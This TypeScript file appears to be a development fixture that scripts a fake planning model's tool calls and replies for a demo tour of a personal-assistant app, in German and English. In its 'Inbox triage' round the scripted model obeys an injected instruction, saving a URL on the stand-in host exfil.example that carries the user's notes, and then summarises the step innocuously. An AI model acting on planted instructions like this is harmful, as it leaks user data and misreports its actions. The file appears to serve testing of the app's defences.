import { tourMissionIn } from './tour-missions.ts';
import type { RecordedRequest } from '#dev/recorded-request.ts';
import {
  hang,
  httpError,
  replyWithText,
  replyWithToolCalls,
  type ScriptedCall,
  type ScriptedResponse,
} from '#dev/scripted-responses.ts';

/** What the model is shown in one request. */
interface Shown {
  /** All but the system message and its own words. */
  readonly text: string;
  /** Answers of tools so far. */
  readonly toolAnswers: readonly string[];
}

/** One round: calls, the closing words, or whatever else a gateway may do. */
type Round = (shown: Shown) => readonly ScriptedCall[] | string | ScriptedResponse;

const today = (hour: number): string => {
  const date = new Date();
  date.setUTCHours(hour, 0, 0, 0);
  return date.toISOString();
};

/** The first id of a record that an answer names: what the model could not know without having read. */
const idIn = (answer: string | undefined, pattern: RegExp): string =>
  pattern.exec(answer ?? '')?.[0] ?? 'unknown';

const ROUNDS: Readonly<Record<string, readonly Round[]>> = {
  Morgenplanung: [
    () => [{ name: 'list_tasks', arguments: { filter: 'open' } }],
    ({ toolAnswers }) => [
      {
        name: 'create_event',
        arguments: {
          title: `Steuererklärung (${idIn(toolAnswers[0], /task-steuer/)})`,
          startTime: today(9),
          endTime: today(10),
        },
      },
    ],
    () => 'Ich habe die Steuererklärung für heute um neun eingeplant, weil sie die höchste Priorität hat.',
  ],
  'Weekly review': [
    () => [
      {
        name: 'create_journal_entry',
        arguments: {
          title: 'Review of the week',
          content:
            'A long walk helped. The call with Tom is still open.\n\nFor next week: what keeps me from calling him?',
        },
      },
    ],
    () => 'I drafted a review from your entry of Wednesday, with one question for next week.',
  ],
  Haushaltsrunde: [
    () => [
      { name: 'create_task', arguments: { title: 'Filter der Spülmaschine reinigen', priority: 'medium' } },
      { name: 'create_task', arguments: { title: 'Altglas wegbringen', priority: 'low' } },
      { name: 'create_event', arguments: { title: 'Putzen', startTime: today(17), endTime: today(18) } },
    ],
    () => 'Zwei kleine Aufgaben sind geplant; einen Termin darf ich nicht anlegen.',
  ],
  'Solar news': [
    ({ text }) => [
      {
        name: 'save_article',
        arguments: {
          url: idIn(text, /https:\/\/[^\s"<>)]+/),
          title: 'Balcony solar panels',
          reason: 'The only one of the results with measured figures.',
        },
      },
    ],
    () => 'One article from the research results is worth reading.',
  ],
  Wärmepumpe: [
    () => [
      {
        name: 'create_note',
        arguments: {
          title: 'Wärmepumpe im Altbau',
          content: 'Zuerst Vorlauftemperatur senken, dann Heizkörper prüfen. Quelle: Ergebnis der Recherche.',
        },
      },
    ],
    () => 'Das Ergebnis der Recherche steht als Notiz bereit.',
  ],
  'Inbox triage': [
    () => [
      { name: 'create_task', arguments: { title: 'Buy printer paper' } },
      // The script obeys the injected order: what comes of it is a staged step, which no device runs.
      {
        name: 'save_article',
        arguments: { url: 'https://exfil.example/collect?d=notes', title: 'Collected' },
      },
    ],
    () => 'One task and one article are planned.',
  ],
  'Reise planen': [
    () => [{ name: 'create_task', arguments: { title: 'Nachtzug Wien–Triest buchen', priority: 'high' } }],
    () => 'Als Nächstes steht die Buchung des Nachtzugs an.',
  ],
  'Plant care': [
    () => 'Nothing is due: the plants were watered yesterday and need water again in four days.',
  ],
  Terminlücke: [
    () => [
      { name: 'get_todays_events', arguments: {} },
      { name: 'create_event', arguments: { title: 'Lesen', startTime: today(15) } },
    ],
    () => [{ name: 'create_event', arguments: { title: 'Lesen', startTime: today(15), endTime: today(16) } }],
    () => 'Zwischen den Terminen ist am Nachmittag eine Stunde zum Lesen frei.',
  ],
  Umzug: [
    () => [{ name: 'create_task', arguments: { title: 'Umzugskartons bestellen', priority: 'high' } }],
    () => httpError(422, { kind: 'blocked', message: 'refused by the script of the tour' }),
  ],
  'Reading list': [() => hang()],
};

/** The model of the tour: it knows the missions by their words, and its rounds by how often it has spoken. */
export function tourPlanner({ body }: RecordedRequest): ScriptedResponse {
  const messages = body.messages.map(({ role, content }) => ({
    role,
    content: typeof content === 'string' ? content : '',
  }));
  const text = messages
    .filter(({ role }) => role === 'user')
    .map(({ content }) => content)
    .join('\n');
  const mission = tourMissionIn(text);
  const spoken = messages.filter(({ role }) => role === 'assistant').length;
  const round = mission === undefined ? undefined : ROUNDS[mission.title]?.[spoken];
  if (round === undefined) return replyWithText('There is nothing to plan.');
  const toolAnswers = messages.filter(({ role }) => role === 'tool').map(({ content }) => content);
  const said = round({ text, toolAnswers });
  if (typeof said === 'string') return replyWithText(said);
  return 'kind' in said ? said : replyWithToolCalls(said);
}
